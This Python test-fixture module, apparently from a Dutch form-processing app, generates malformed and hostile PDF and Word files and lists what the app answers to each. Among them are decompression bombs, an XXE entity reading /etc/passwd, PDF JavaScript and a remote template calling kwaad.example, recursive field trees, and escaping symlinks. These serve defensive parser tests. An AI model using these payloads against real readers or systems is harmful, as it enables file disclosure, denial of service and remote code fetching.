"""Forms that are broken, of another, or made to do harm; each with the word that its sender gets."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from example_pages import pages_of
from filled_forms import changed_docx, changed_pdf, fill_docx, fill_pdf, flat_pdf, form_docx, form_pdf, typed_pdf
from lxml import etree
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from kom_erbij.writers.pdf import write_pdf

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_N = iter(range(1000))


def _own(**values: str) -> dict[str, str]:
    """An activity like no other."""
    return {"titel": f"Samen eten {next(_N)}", "datum": "30 september", **values}


def _pdf(change: Callable[[pikepdf.Pdf], None], **how: object) -> bytes:
    return changed_pdf(fill_pdf(_own()), change, **how)


def _field(pdf: pikepdf.Pdf, name: str = "titel") -> pikepdf.Object:
    return next(one for one in pdf.Root.AcroForm.Fields.as_list() if str(one.T) == name)


def _bomb(pdf: pikepdf.Pdf) -> None:
    made = pdf.make_stream(b"")
    made.write(zlib.compress(bytes(200_000_000), 9), filter=Name.FlateDecode)
    _field(pdf).V = made


def _in_a_ring(pdf: pikepdf.Pdf) -> None:
    one = pdf.make_indirect(Dictionary(T=String("a"), Kids=Array()))
    one.Kids.append(one)
    pdf.Root.AcroForm.Fields = Array([one])


def _deep(pdf: pikepdf.Pdf) -> None:
    node = pdf.make_indirect(Dictionary(T=String("titel"), FT=Name.Tx, V=String("diep")))
    for number in range(60):
        node = pdf.make_indirect(Dictionary(T=String(f"d{number}"), Kids=Array([node])))
    pdf.Root.AcroForm.Fields = Array([node])


def _of_another(pdf: pikepdf.Pdf) -> None:
    names = ("Naam", "Rekeningnummer", "BSN")
    fields = [pdf.make_indirect(Dictionary(T=String(n), FT=Name.Tx, V=String("x"))) for n in names]
    pdf.Root.AcroForm.Fields = Array(fields)
    del pdf.trailer["/Info"]
    del pdf.Root["/Metadata"]


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm.Fields = Array()
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")


def _scripts(pdf: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://kwaad.example')"))
    pdf.Root.OpenAction = act
    _field(pdf).AA = Dictionary(K=act)


def _twice(pdf: pikepdf.Pdf) -> None:
    other = pdf.make_indirect(Dictionary(T=String("locatie"), FT=Name.Tx, V=String("De Hal")))
    _field(pdf, "locatie").V = String("De Zaal")
    pdf.Root.AcroForm.Fields.append(other)


def _without_fields(pdf: pikepdf.Pdf) -> None:
    del pdf.Root["/AcroForm"]
    for page in pdf.pages:
        del page.obj["/Annots"]


def _mark(**said: str) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        keywords = str(pdf.docinfo["/Keywords"])
        for key, value in said.items():
            head, _, rest = keywords.partition(f"{key}=")
            keywords = f"{head}{key}={value} {rest.partition(' ')[2]}"
        pdf.docinfo["/Keywords"] = String(keywords)

    return change


def _scan() -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((600, 800)).convert("RGB").save(out, "PDF")
    return out.getvalue()


def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "white").save(out, "JPEG")
    return out.getvalue()


def _zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name.replace("__", "/").replace("_x", ".x"), data)
    return out.getvalue()


def _docx_bomb() -> bytes:
    return changed_docx(form_docx(), lambda root: None, {"word/media/leeg.bin": bytes(65_000_000)})


def _with_entity() -> bytes:
    data = form_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        part = old.read("word/document.xml")
    head, _, rest = part.partition(b"?>")
    evil = head + b'?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + rest
    return changed_docx(data, lambda root: None, {"word/document.xml": evil})


def _from_outside() -> bytes:
    data = fill_docx(_own())
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        links = old.read("word/_rels/document.xml.rels")
    more = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://kwaad.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return changed_docx(
        data, lambda root: None, {"word/_rels/document.xml.rels": links.replace(b"</Relationships>", more)}
    )


def _without_controls() -> bytes:
    def change(root: etree._Element) -> None:
        for control in list(root.iter(f"{{{W}}}sdt")):
            control.getparent().remove(control)

    return changed_docx(form_docx(), change)


def _two_ticks() -> bytes:
    once = fill_docx(_own(), {"kosten": "gratis"})
    return fill_docx({}, {"kosten": "het kost"}, once)


def _locked() -> bytes:
    data = bytearray(_zip(word__document_xml=b"<x/>"))
    data[6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "leeg.pdf": (lambda: b"", "het bestand is leeg"),
    "niet-ingevuld.pdf": (form_pdf, "het formulier is leeg"),
    "niet-ingevuld.docx": (form_docx, "het formulier is leeg"),
    "afgekapt.pdf": (lambda: fill_pdf(_own())[:9000], "beschadigd"),
    "kop-alleen.pdf": (lambda: b"%PDF-1.7\n%%EOF", "beschadigd"),
    "wachtwoord.pdf": (
        lambda: _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="geheim", owner="geheim")), "wachtwoord",
    ),
    "bom.pdf": (lambda: _pdf(_bomb), "200000000 tekens"),
    "kring.pdf": (lambda: _pdf(_in_a_ring), "in een kring"),
    "diep.pdf": (lambda: _pdf(_deep), "te diep"),
    "ander-formulier.pdf": (lambda: _pdf(_of_another), "geen formulier van ons"),
    "xfa.pdf": (lambda: _pdf(_xfa), "XFA"),
    "lang.pdf": (lambda: fill_pdf(_own(titel="x" * 100_000)), "100000 tekens"),
    "veel-bladzijden.pdf": (
        lambda: _pdf(lambda pdf: [pdf.add_blank_page() for _ in range(30)] and None), "32 bladzijden",
    ),
    "veel-velden.pdf": (lambda: _pdf(
        lambda pdf: pdf.Root.AcroForm.Fields.extend(
            Dictionary(T=String(f"v{number}"), FT=Name.Tx, V=String("x")) for number in range(2000)
        )
    ), "meer dan 500 velden"),
    "plat-en-leeg.pdf": (lambda: _pdf(_without_fields), "het formulier is leeg"),
    "poster.pdf": (lambda: write_pdf(pages_of("poster", "a4")), "geen invulvelden"),
    "scan.pdf": (_scan, "plaatje"),
    "foto.pdf": (_jpeg, "plaatje"),
    "webpagina.pdf": (lambda: b"<html><body>formulier</body></html>", "geen PDF of Word-bestand"),
    "oud-jaar.pdf": (lambda: _pdf(_mark(jaar="2026")), "van 2026"),
    "nieuwe-versie.pdf": (lambda: _pdf(_mark(versie="9")), "nieuwere versie"),
    "bom.docx": (_docx_bomb, "veel te groot"),
    "entiteit.docx": (_with_entity, "entiteiten"),
    "geen-velden.docx": (_without_controls, "geen invulvelden"),
    "afgekapt.docx": (lambda: fill_docx(_own())[:20_000], "beschadigd"),
    "oud-word.docx": (lambda: _OLE, "oud Word-bestand"),
    "sheet.docx": (lambda: _zip(xl__workbook_xml=b"<x/>"), "geen Word-bestand"),
    "op-slot.docx": (_locked, "wachtwoord"),
    "tekst.docx": (lambda: b"{\\rtf1 formulier}", "RTF"),
    "hoe-dan-ook.xyz": (lambda: b"\0" * 400, "geen PDF of Word-bestand"),
    "dubbel-a.pdf": (lambda: fill_pdf({"titel": "Bingo", "datum": "1 oktober"}), "dubbel-b.docx"),
    "dubbel-b.docx": (lambda: fill_docx({"titel": "Bingo", "datum": "1 oktober"}), "dubbel-a.pdf"),
}  # fmt: skip
"""What gives no row, and what is said of it."""

READ: dict[str, tuple[Callable[[], bytes], str]] = {
    "goed.pdf": (lambda: fill_pdf(_own()), ""),
    "goed.docx": (lambda: fill_docx(_own()), ""),
    "alleen-eigenaar.pdf": (lambda: _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="", owner="x")), ""),
    "plat.pdf": (lambda: flat_pdf(typed_pdf(_own())), "plat bewaard"),
    "script.pdf": (lambda: _pdf(_scripts), "niet uitgevoerd"),
    "twee-keer.pdf": (lambda: _pdf(_twice), "“De Zaal” en “De Hal”"),
    "buiten.docx": (_from_outside, "niet opgehaald"),
    "twee-kruisjes.docx": (_two_ticks, "twee antwoorden"),
    "kladblok.pdf": (lambda: _pdf(lambda pdf: pdf.Root.AcroForm.Fields.append(
        Dictionary(T=String("notitie"), FT=Name.Tx, V=String("bel mij"))
    )), "“bel mij”"),
}  # fmt: skip
"""What gives a row, and what is told with it."""


def lay_out(folder: Path) -> None:
    """All of them in a folder, with links out of it."""
    for name, (make, _) in {**REFUSED, **READ}.items():
        (folder / name).write_bytes(make())
    secret = folder.parent / "elders.pdf"
    secret.write_bytes(fill_pdf(_own()))
    if os.name != "nt":
        (folder / "link.pdf").symlink_to(secret)
        (folder / "nergens.pdf").symlink_to(folder / "is-er-niet.pdf")
        (folder / "map").symlink_to(folder.parent, target_is_directory=True)


def table() -> str:
    """What each gets, as docs/betrouwbaarheid.md has it."""
    lines = ["| formulier | krijgt |", "|---|---|"]
    lines += [f"| `{name}` | geen rij: {word} |" for name, (_, word) in REFUSED.items()]
    lines += [f"| `{name}` | een rij{f', en: {word}' if word else ''} |" for name, (_, word) in READ.items()]
    return "\n".join(lines)
